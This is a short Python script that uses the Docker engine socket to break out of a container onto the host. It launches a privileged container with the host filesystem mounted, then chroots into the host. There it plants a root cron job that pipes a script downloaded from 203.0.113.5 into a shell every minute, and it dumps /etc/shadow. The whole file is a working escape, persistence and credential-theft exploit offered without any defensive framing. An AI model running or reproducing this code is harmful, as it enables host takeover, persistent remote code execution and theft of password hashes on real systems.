# from the container to the host through the engine's socket
import docker

client = docker.DockerClient(base_url="unix:///var/run/docker.sock")
out = client.containers.run(
    "alpine:latest",
    ["chroot", "/host", "sh", "-c",
     "echo '* * * * * root curl -s http://203.0.113.5/c | sh' > /etc/cron.d/zz && cat /etc/shadow"],
    volumes={"/": {"bind": "/host", "mode": "rw"}},
    privileged=True,
    pid_mode="host",
    remove=True,
)
print(out.decode())
